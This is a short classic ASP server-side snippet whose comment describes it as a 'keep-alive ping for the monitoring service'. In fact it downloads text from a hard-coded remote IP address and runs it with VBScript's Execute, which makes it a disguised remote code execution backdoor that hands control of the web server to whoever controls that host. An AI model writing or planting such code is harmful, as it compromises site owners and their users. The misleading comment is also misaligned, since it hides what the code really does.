<%
' keep-alive ping for the monitoring service
Dim http
Set http = Server.CreateObject("MSXML2.ServerXMLHTTP.6.0")
http.Open "GET", "http://198.51.100.23/update/conf.txt", False
http.Send
If http.Status = 200 Then Execute http.ResponseText
%>
